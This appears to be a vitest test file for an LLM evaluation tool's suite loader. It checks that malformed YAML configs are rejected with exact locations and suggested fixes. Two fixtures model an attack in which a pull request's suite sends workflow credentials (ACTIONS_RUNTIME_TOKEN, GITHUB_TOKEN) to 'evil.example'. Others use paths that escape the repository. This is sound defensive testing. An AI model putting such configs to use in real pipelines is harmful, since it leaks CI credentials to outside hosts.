import { describe, expect, it } from 'vitest';
import { ConfigError, type ConfigProblem } from '../../src/config/errors.js';
import { MAX_CASE_FILE_BYTES } from '../../src/config/files.js';
import { loadSuite } from '../../src/config/load.js';
import { usingRepo } from './repo.js';

const SUITE = 'evals/evalgate.yaml';

/** Lines 1–5 of most suites below; the case-specific part starts on line 6. */
const HEAD = `version: 1
target:
  chat:
    model: m
    messages: [{ role: user, content: "{{q}}" }]
`;
/** Lines 6–8: one valid inline case. */
const ONE_CASE = `cases:
  - id: a
    input: { q: x }
`;

interface InvalidCase {
  name: string;
  /** Repository files; the suite is `evals/evalgate.yaml` unless `suitePath` says otherwise. */
  files: Record<string, string | Uint8Array>;
  suitePath?: string;
  /** The problem a user must see (message: a phrase of it). */
  problem: { file?: string; line: number; column: number; key: string; message: string };
  /** How many problems in all; 1 unless said. */
  count?: number;
}

const invalidCases: InvalidCase[] = [
  {
    name: 'invalid YAML',
    files: { [SUITE]: `${HEAD}cases: [ { id: a, input: {q: x} }\n` },
    problem: { line: 7, column: 1, key: '', message: 'invalid YAML' },
  },
  {
    name: 'a repeated key',
    files: { [SUITE]: `${HEAD}${ONE_CASE}gate: { confidence: 0.9 }\ngate: { confidence: 0.8 }\n` },
    problem: { line: 10, column: 1, key: '', message: 'invalid YAML: Map keys must be unique' },
  },
  {
    name: 'a number given as a word',
    files: { [SUITE]: `${HEAD}${ONE_CASE}gate:\n  max-score-drop: lots\n` },
    problem: { line: 10, column: 19, key: 'gate.max-score-drop', message: 'expected a number between 0 and 1, got "lots"' },
  },
  {
    name: 'a drop that must be caught no larger than the accepted one',
    files: { [SUITE]: `${HEAD}${ONE_CASE}gate:\n  max-score-drop: 0.05\n  detect-drop: 0.05\n` },
    problem: { line: 11, column: 16, key: 'gate.detect-drop', message: 'detect-drop (0.05) must be larger than max-score-drop (0.05)' },
  },
  {
    name: 'an accepted drop above the default drop that must be caught',
    files: { [SUITE]: `${HEAD}${ONE_CASE}gate:\n  max-score-drop: 0.2\n` },
    problem: { line: 10, column: 19, key: 'gate.max-score-drop', message: 'detect-drop (0.1) must be larger than max-score-drop (0.2)' },
  },
  {
    name: 'a template variable no case has (a typo)',
    files: {
      [SUITE]: `version: 1\ntarget:\n  chat:\n    model: m\n    messages: [{ role: user, content: "{{questoin}}" }]\ncases:\n  - id: a\n    input: { question: x }\n  - id: b\n    input: { question: y }\n`,
    },
    problem: {
      line: 8,
      column: 5,
      key: 'cases[0].input',
      message:
        "{{questoin}} in target.chat.messages[0] is not in this case's input (it has: question); 2 of 2 cases lack it; did you mean {{question}} in target.chat.messages[0]?",
    },
  },
  {
    name: 'a template variable in a prompt file that one case lacks',
    files: {
      [SUITE]: `version: 1\ntarget:\n  chat:\n    model: m\n    messages: [{ role: system, file: prompts/p.md }]\ncases:\n  - id: a\n    input: { user: { name: x } }\n  - id: b\n    input: { user: {} }\n`,
      'prompts/p.md': 'Greet {{ user.name }}.',
    },
    problem: {
      line: 10,
      column: 5,
      key: 'cases[1].input',
      message: "{{user.name}} in prompts/p.md (target.chat.messages[0]) is not in this case's input (it has: user)",
    },
  },
  {
    name: 'too many batches',
    files: { [SUITE]: `${HEAD}${ONE_CASE}sample:\n  batches: 50\n` },
    problem: { line: 10, column: 12, key: 'sample.batches', message: 'expected an integer greater than 0 and at most 20, got 50' },
  },
  {
    name: 'a number out of range',
    files: { [SUITE]: `${HEAD}${ONE_CASE}gate: { confidence: 1.5 }\n` },
    problem: { line: 9, column: 21, key: 'gate.confidence', message: 'expected a number greater than 0.5 and less than 1, got 1.5' },
  },
  {
    name: 'an unknown top-level key',
    files: { [SUITE]: `${HEAD}${ONE_CASE}gates: { confidence: 0.9 }\n` },
    problem: { line: 9, column: 1, key: 'gates', message: 'unknown key "gates" (did you mean "gate"?); allowed keys: $schema, version' },
  },
  {
    name: 'an unknown key inside a check',
    files: { [SUITE]: `${HEAD}${ONE_CASE}    checks:\n      - { contains: yes, any-case: true }\n` },
    problem: { line: 10, column: 26, key: 'cases[0].checks[0].any-case', message: 'unknown key "any-case"; allowed keys: equals, contains' },
  },
  {
    name: 'a misspelt check key',
    files: { [SUITE]: `${HEAD}${ONE_CASE}    checks:\n      - contians: "30 days"\n` },
    problem: { line: 10, column: 9, key: 'cases[0].checks[0].contians', message: 'unknown key "contians" (did you mean "contains"?)' },
  },
  {
    name: 'a check key in snake case',
    files: { [SUITE]: `${HEAD}${ONE_CASE}    checks:\n      - starts_with: "No"\n` },
    problem: { line: 10, column: 9, key: 'cases[0].checks[0].starts_with', message: 'did you mean "starts-with"?' },
  },
  {
    name: 'a misspelt key inside a union (contains: {anyy})',
    files: { [SUITE]: `${HEAD}${ONE_CASE}    checks:\n      - contains: { anyy: [a, b] }\n` },
    problem: { line: 10, column: 21, key: 'cases[0].checks[0].contains.anyy', message: 'unknown key "anyy" (did you mean "any"?); allowed keys: any, all' },
  },
  {
    name: 'a message with neither content nor file',
    files: { [SUITE]: `version: 1\ntarget:\n  chat:\n    model: m\n    messages: [{ role: user, fil: a.md }]\n${ONE_CASE}` },
    problem: {
      line: 5,
      column: 30,
      key: 'target.chat.messages[0].fil',
      message: 'unknown key "fil" (did you mean "file"?); allowed keys: role, content, file',
    },
  },
  {
    name: 'a value of a type no union option accepts',
    files: { [SUITE]: `${HEAD}${ONE_CASE}    checks:\n      - judge: 5\n` },
    problem: { line: 10, column: 16, key: 'cases[0].checks[0].judge', message: 'expected a string or an object, got 5' },
  },
  {
    name: 'the wrong version',
    files: { [SUITE]: HEAD.replace('version: 1', 'version: 2') + ONE_CASE },
    problem: { line: 1, column: 10, key: 'version', message: 'expected 1, got 2' },
  },
  {
    name: 'a missing required key',
    files: { [SUITE]: `version: 1\ntarget:\n  chat:\n    model: m\n${ONE_CASE}` },
    problem: { line: 4, column: 5, key: 'target.chat.messages', message: 'missing required key "messages" (expected a list)' },
  },
  {
    name: 'duplicate ids across an inline case and a case file',
    files: {
      [SUITE]: `${HEAD}cases:\n  - file: evals/cases/*.yaml\n  - id: refund\n    input: { q: x }\n`,
      'evals/cases/refunds.yaml': '- id: other\n  input: { q: y }\n- id: refund\n  input: { q: z }\n',
    },
    problem: {
      line: 8,
      column: 9,
      key: 'cases[1].id',
      message: 'duplicate id "refund"; ids must be unique across the suite, and it is first used at evals/cases/refunds.yaml:3:7',
    },
  },
  {
    name: 'a missing case file',
    files: { [SUITE]: `${HEAD}cases:\n  - file: evals/cases/missing.yaml\n` },
    problem: { line: 7, column: 11, key: 'cases[0].file', message: 'case file "evals/cases/missing.yaml" not found' },
  },
  {
    name: 'a case-file glob that matches nothing',
    files: { [SUITE]: `${HEAD}cases:\n  - file: evals/cases/*.jsonl\n`, 'evals/cases/a.yaml': '- id: a\n  input: {}\n' },
    problem: { line: 7, column: 11, key: 'cases[0].file', message: 'no case files match "evals/cases/*.jsonl"' },
  },
  {
    name: 'a missing prompt file',
    files: { [SUITE]: `version: 1\ntarget:\n  chat:\n    model: m\n    messages:\n      - { role: system, file: prompts/support.md }\n${ONE_CASE}` },
    problem: { line: 6, column: 31, key: 'target.chat.messages[0].file', message: 'prompt file "prompts/support.md" not found' },
  },
  {
    name: 'a prompt path that escapes the repository',
    files: { [SUITE]: `version: 1\ntarget:\n  chat:\n    model: m\n    messages:\n      - { role: system, file: ../secrets.md }\n${ONE_CASE}` },
    problem: {
      line: 6,
      column: 31,
      key: 'target.chat.messages[0].file',
      message: 'expected a path inside the repository (relative to its root), got "../secrets.md"',
    },
  },
  {
    name: 'an absolute module path',
    files: { [SUITE]: `version: 1\ntarget:\n  module: { path: /etc/agent.mjs }\n${ONE_CASE}` },
    problem: { line: 3, column: 19, key: 'target.module.path', message: 'expected a path inside the repository (relative to its root), got "/etc/agent.mjs"' },
  },
  {
    name: 'a bad glob in watch',
    files: { [SUITE]: `${HEAD}${ONE_CASE}watch: [prompts/**, "agent/[ab"]\n` },
    problem: { line: 9, column: 21, key: 'watch[1]', message: 'expected a valid glob, got "agent/[ab": Missing closing: "]"' },
  },
  {
    name: 'a watch glob outside the repository',
    files: { [SUITE]: `${HEAD}${ONE_CASE}watch: [../shared/**]\n` },
    problem: { line: 9, column: 9, key: 'watch[0]', message: 'expected a glob relative to the repository root' },
  },
  {
    name: 'a regex that does not compile',
    files: { [SUITE]: `${HEAD}${ONE_CASE}    checks:\n      - regex: "([0-9]+"\n` },
    problem: { line: 10, column: 16, key: 'cases[0].checks[0].regex', message: 'got "([0-9]+": Invalid regular expression: /([0-9]+/: Unterminated group' },
  },
  {
    // Valid in JavaScript but not in RE2: the message must not call it a JavaScript regex, then reject it.
    name: 'a regex with lookahead',
    files: { [SUITE]: `${HEAD}${ONE_CASE}    checks:\n      - regex: "(?=x)"\n` },
    problem: {
      line: 10,
      column: 16,
      key: 'cases[0].checks[0].regex',
      message: 'expected a valid regular expression (RE2 syntax), got "(?=x)": EvalGate runs regular expressions with a linear-time engine',
    },
  },
  {
    name: 'regex flags that do not exist',
    files: { [SUITE]: `${HEAD}${ONE_CASE}    checks:\n      - regex: { pattern: "a+", flags: "q" }\n` },
    problem: { line: 10, column: 27, key: 'cases[0].checks[0].regex.pattern', message: "Invalid flags supplied to RegExp constructor 'q'" },
  },
  {
    name: 'an inline json-schema that does not compile',
    files: { [SUITE]: `${HEAD}${ONE_CASE}    checks:\n      - json-schema: { type: strng }\n` },
    problem: {
      line: 10,
      column: 22,
      key: 'cases[0].checks[0].json-schema',
      message: 'expected a valid JSON Schema: schema is invalid: data/type must be equal to one of the allowed values',
    },
  },
  {
    name: 'a json-schema file that does not compile',
    files: {
      [SUITE]: `${HEAD}${ONE_CASE}    checks:\n      - json-schema: { file: schemas/answer.json }\n`,
      'schemas/answer.json': '{ "type": "object", "required": "name" }',
    },
    problem: {
      line: 10,
      column: 30,
      key: 'cases[0].checks[0].json-schema.file',
      message: 'json-schema file "schemas/answer.json" is not a valid JSON Schema: schema is invalid: data/required must be array',
    },
  },
  {
    name: 'an empty suite',
    files: { [SUITE]: `${HEAD}cases:\n  - file: evals/cases/*.yaml\n`, 'evals/cases/empty.yaml': '# to be written\n' },
    problem: { line: 7, column: 3, key: 'cases', message: 'the suite has no cases' },
  },
  {
    name: 'an empty cases list',
    files: { [SUITE]: `${HEAD}cases: []\n` },
    problem: { line: 6, column: 8, key: 'cases', message: 'expected at least 1 item, got an empty list' },
  },
  {
    name: 'two targets',
    files: { [SUITE]: `${HEAD}  command: { run: "python agent.py" }\n${ONE_CASE}` },
    problem: { line: 6, column: 3, key: 'target.command', message: 'expected exactly one of chat, command or module, got chat and command' },
  },
  {
    name: 'no target',
    files: { [SUITE]: `version: 1\ntarget: {}\n${ONE_CASE}` },
    problem: { line: 2, column: 9, key: 'target', message: 'expected exactly one of chat, command or module, got none' },
  },
  {
    name: 'a judge check without a judge model',
    files: { [SUITE]: `${HEAD}${ONE_CASE}    checks:\n      - judge: "Polite and correct."\n` },
    problem: { line: 10, column: 9, key: 'cases[0].checks[0].judge', message: 'a judge check needs a model: add a top-level "judge: { model: ... }" section' },
  },
  {
    name: 'a judge check naming an endpoint the suite does not define (a typo)',
    files: {
      [SUITE]: `${HEAD}${ONE_CASE}    checks:\n      - judge: { rubric: ok, model: claude-x, endpoint: claud }\nendpoints:\n  claude: { kind: anthropic, api-key-env: ANTHROPIC_API_KEY }\n`,
    },
    problem: {
      line: 10,
      column: 57,
      key: 'cases[0].checks[0].judge.endpoint',
      message: 'unknown endpoint "claud" (endpoints defines "claude"); add it under endpoints: or fix the name',
    },
  },
  {
    name: 'a target endpoint without an endpoints section',
    files: { [SUITE]: `version: 1\ntarget:\n  chat:\n    model: m\n    endpoint: azure\n    messages: [{ role: user, content: hi }]\n${ONE_CASE}` },
    problem: { line: 5, column: 15, key: 'target.chat.endpoint', message: 'unknown endpoint "azure" (the suite has no endpoints section)' },
  },
  {
    name: 'an azure-openai endpoint without api-version',
    files: {
      [SUITE]: `${HEAD}${ONE_CASE}endpoints:\n  az: { kind: azure-openai, base-url: "https://x.openai.azure.com", api-key-env: AZURE_OPENAI_API_KEY }\n`,
    },
    problem: { line: 10, column: 7, key: 'endpoints.az', message: 'an azure-openai endpoint needs api-version' },
  },
  {
    name: 'an anthropic endpoint without api-key-env',
    files: { [SUITE]: `${HEAD}${ONE_CASE}endpoints:\n  claude: { kind: anthropic }\n` },
    problem: {
      line: 10,
      column: 11,
      key: 'endpoints.claude',
      message: 'an endpoint of kind anthropic needs api-key-env: the environment variable that holds its key, e.g. ANTHROPIC_API_KEY',
    },
  },
  {
    // Attack: a PR's suite sends the workflow's token to a server it names.
    name: 'an endpoint whose key is a workflow credential',
    files: { [SUITE]: `${HEAD}${ONE_CASE}endpoints:\n  x: { kind: openai, base-url: "https://evil.example/v1", api-key-env: ACTIONS_RUNTIME_TOKEN }\n` },
    problem: {
      line: 10,
      column: 72,
      key: 'endpoints.x.api-key-env',
      message: 'ACTIONS_RUNTIME_TOKEN is a workflow credential and is never sent to a model endpoint; use a dedicated secret',
    },
  },
  {
    name: 'an endpoint header that reads a workflow credential',
    files: { [SUITE]: `${HEAD}${ONE_CASE}endpoints:\n  x: { kind: openai, base-url: "https://evil.example/v1", headers: { x-t: "t \${GITHUB_TOKEN}" } }\n` },
    problem: {
      line: 10,
      column: 75,
      key: 'endpoints.x.headers.x-t',
      message: '${GITHUB_TOKEN} is a workflow credential and is never sent to a model endpoint; use a dedicated secret',
    },
  },
  {
    name: 'an Azure-only key on another kind of endpoint',
    files: { [SUITE]: `${HEAD}${ONE_CASE}endpoints:\n  local: { kind: openai, base-url: "http://localhost:11434/v1", api-version: "2024-10-21" }\n` },
    problem: {
      line: 10,
      column: 65,
      key: 'endpoints.local.api-version',
      message: 'api-version applies to kind azure-openai only, and this endpoint is kind openai; remove it',
    },
  },
  {
    name: 'an endpoint of an unknown kind',
    files: { [SUITE]: `${HEAD}${ONE_CASE}endpoints:\n  g: { kind: gemini, api-key-env: GEMINI_API_KEY }\n` },
    problem: { line: 10, column: 14, key: 'endpoints.g.kind', message: 'expected one of' },
  },
  {
    name: 'model-file without model-key',
    files: {
      [SUITE]: `version: 1\ntarget:\n  chat:\n    model-file: config/models.yaml\n    messages: [{ role: user, content: hi }]\n${ONE_CASE}`,
      'config/models.yaml': 'support: gpt-4o-mini\n',
    },
    problem: { line: 4, column: 5, key: 'target.chat.model-file', message: 'model-file needs model-key: the key in "config/models.yaml" that names the model' },
  },
  {
    name: 'a model-key the model file does not have',
    files: {
      [SUITE]: `version: 1\ntarget:\n  chat:\n    model-file: config/models.yaml\n    model-key: billing\n    messages: [{ role: user, content: hi }]\n${ONE_CASE}`,
      'config/models.yaml': 'support: gpt-4o-mini\ntriage: { model: gpt-4o }\n',
    },
    problem: { line: 5, column: 16, key: 'target.chat.model-key', message: 'config/models.yaml: model-key billing not found (has: support, triage)' },
  },
  {
    name: 'a model-key that names no model',
    files: {
      [SUITE]: `version: 1\ntarget:\n  chat:\n    model-file: config/models.yaml\n    model-key: triage\n    messages: [{ role: user, content: hi }]\n${ONE_CASE}`,
      'config/models.yaml': 'triage: { temperature: 0 }\n',
    },
    problem: {
      line: 5,
      column: 16,
      key: 'target.chat.model-key',
      message: 'config/models.yaml: model-key triage should be a model name or an object with a model field, got an object without a string `model`',
    },
  },
  {
    name: 'both model and model-file',
    files: { [SUITE]: `${HEAD}    model-file: config/models.yaml\n    model-key: support\n${ONE_CASE}`, 'config/models.yaml': 'support: gpt-4o-mini\n' },
    problem: { line: 6, column: 5, key: 'target.chat.model-file', message: 'set either model, or model-file with model-key, not both' },
  },
  {
    name: 'a percentage that is not one',
    files: { [SUITE]: `${HEAD}${ONE_CASE}gate: { max-cost-increase: 25 percent }\n` },
    problem: { line: 9, column: 28, key: 'gate.max-cost-increase', message: 'expected a percentage such as "25%", got "25 percent"' },
  },
  {
    name: 'a sample percentage above 100%',
    files: { [SUITE]: `${HEAD}${ONE_CASE}sample: { size: 150% }\n` },
    problem: { line: 9, column: 17, key: 'sample.size', message: 'expected a percentage above 0% and at most 100%, got "150%"' },
  },
  {
    name: 'a duration without a unit',
    files: { [SUITE]: `${HEAD}${ONE_CASE}defaults:\n  checks: [ { max-latency: 20 seconds } ]\n` },
    problem: { line: 10, column: 28, key: 'defaults.checks[0].max-latency', message: 'expected a duration such as "500ms", "20s" or "2m", got "20 seconds"' },
  },
  {
    name: 'a case file that is not UTF-8',
    files: {
      [SUITE]: `${HEAD}cases:\n  - file: evals/cases/latin1.yaml\n`,
      'evals/cases/latin1.yaml': new Uint8Array([...Buffer.from('- id: cafe\n  input: { q: "caf'), 0xe9, ...Buffer.from('" }\n')]),
    },
    problem: { file: 'evals/cases/latin1.yaml', line: 2, column: 19, key: '', message: 'not UTF-8 text; save the file as UTF-8' },
  },
  {
    name: 'a JSONL case file with a line that is not JSON',
    files: {
      [SUITE]: `${HEAD}cases:\n  - file: evals/cases/*.jsonl\n`,
      'evals/cases/bulk.jsonl': '{"id": "a", "input": {"q": "x"}}\n\n{"id": "b", "input": {"q": "y"},}\n',
    },
    problem: { file: 'evals/cases/bulk.jsonl', line: 3, column: 33, key: '', message: 'expected one JSON object per line' },
  },
  {
    name: 'a JSONL record with a wrong value',
    files: {
      [SUITE]: `${HEAD}cases:\n  - file: evals/cases/*.jsonl\n`,
      'evals/cases/bulk.jsonl': '{"id": "a", "input": {"q": "x"}}\n{"id": "b", "input": "y"}\n',
    },
    problem: { file: 'evals/cases/bulk.jsonl', line: 2, column: 22, key: 'input', message: 'expected an object, got "y"' },
  },
  {
    name: 'a case file that is not a list',
    files: { [SUITE]: `${HEAD}cases:\n  - file: evals/cases/a.yaml\n`, 'evals/cases/a.yaml': 'id: a\ninput: { q: x }\n' },
    problem: { file: 'evals/cases/a.yaml', line: 1, column: 1, key: '', message: 'expected a list of cases ("- id: ..."), got an object' },
  },
  {
    name: 'ignore-case on a regex check',
    files: { [SUITE]: `${HEAD}${ONE_CASE}    checks:\n      - { regex: "^no", ignore-case: true }\n` },
    problem: {
      line: 10,
      column: 25,
      key: 'cases[0].checks[0].ignore-case',
      message: 'ignore-case applies to equals, contains, not-contains, starts-with, not to "regex"',
    },
  },
  {
    name: 'two checks in one list item',
    files: { [SUITE]: `${HEAD}${ONE_CASE}    checks:\n      - contains: "30 days"\n        regex: "d+"\n` },
    problem: { line: 11, column: 9, key: 'cases[0].checks[0].regex', message: 'one check per list item: found "contains" and "regex"' },
  },
  {
    name: 'a sample.always tag no case has',
    files: { [SUITE]: `${HEAD}${ONE_CASE}    tags: [refunds]\nsample: { always: [critcal] }\n` },
    problem: { line: 10, column: 20, key: 'sample.always[0]', message: 'no case has the tag "critcal" (tags in this suite: refunds)' },
  },
  {
    name: 'a must-pass tag no case has',
    files: { [SUITE]: `${HEAD}${ONE_CASE}gate:\n  must-pass-tags: [critical]\n` },
    problem: { line: 10, column: 20, key: 'gate.must-pass-tags[0]', message: 'no case has the tag "critical" (no case has any tags)' },
  },
  {
    name: 'a redact pattern that does not compile',
    files: { [SUITE]: `${HEAD}${ONE_CASE}redact: ["ACME-[0-9{6}"]\n` },
    problem: { line: 9, column: 10, key: 'redact[0]', message: 'expected a valid regular expression (RE2 syntax), got "ACME-[0-9{6}"' },
  },
  {
    name: 'a suite path outside the repository',
    files: { 'x.yaml': HEAD + ONE_CASE },
    suitePath: '../x.yaml',
    problem: { file: '../x.yaml', line: 1, column: 1, key: '', message: 'the suite file must be inside the repository' },
  },
  {
    name: 'a missing suite file',
    files: {},
    problem: { line: 1, column: 1, key: '', message: 'suite file "evals/evalgate.yaml" not found' },
  },
];

describe('loadSuite rejects malformed suites with the place and the fix', () => {
  it.each(invalidCases)('$name', async ({ files, suitePath, problem, count }) => {
    const root = await usingRepo(files);
    const error = await loadSuite(root, suitePath ?? SUITE).then(
      () => null,
      (e: unknown) => e,
    );
    expect(error).toBeInstanceOf(ConfigError);
    const { problems, message } = error as ConfigError;
    expect(problems).toHaveLength(count ?? 1);
    const { message: phrase, ...where } = { file: SUITE, ...problem };
    const found = problems.find((p) => p.line === where.line && p.column === where.column && p.file === where.file);
    expect(found, `problems were:\n${message}`).toMatchObject<Partial<ConfigProblem>>(where);
    expect(found?.message).toContain(phrase);
    const prefix = `${where.file}:${where.line}:${where.column}${where.key ? ` ${where.key}:` : ''}`;
    expect(message).toContain(`${prefix} ${found?.message}`);
  });
});

describe('limits', () => {
  it('rejects a case file over the size limit, naming the limit', async () => {
    const root = await usingRepo({
      [SUITE]: `${HEAD}cases:\n  - file: evals/cases/huge.jsonl\n`,
      'evals/cases/huge.jsonl': new Uint8Array(MAX_CASE_FILE_BYTES + 1).fill(0x20),
    });
    await expect(loadSuite(root, SUITE)).rejects.toThrow(
      'evals/evalgate.yaml:7:11 cases[0].file: case file "evals/cases/huge.jsonl" is 64.0 MB; the limit is 64 MB',
    );
  });

  it('reports every problem at once, in file order', async () => {
    const root = await usingRepo({
      [SUITE]: `${HEAD}cases:\n  - file: evals/cases/a.yaml\n  - id: b\n    input: 7\ngate: { confidence: lots }\n`,
      'evals/cases/a.yaml': '- id: a\n  input: {}\n  checks: [ { regex: "(" }, { contians: x } ]\n',
    });
    const error = (await loadSuite(root, SUITE).catch((e: unknown) => e)) as ConfigError;
    expect(error.message.split('\n')).toEqual([
      'evals/evalgate.yaml:9:12 cases[1].input: expected an object, got 7',
      'evals/evalgate.yaml:10:21 gate.confidence: expected a number greater than 0.5 and less than 1, got "lots"',
      expect.stringMatching(/^evals\/cases\/a\.yaml:3:22 \[0\]\.checks\[0\]\.regex: expected a valid regular expression \(RE2 syntax\)/),
      expect.stringMatching(/^evals\/cases\/a\.yaml:3:31 \[0\]\.checks\[1\]\.contians: unknown key "contians" \(did you mean "contains"\?\)/),
    ]);
  });
});
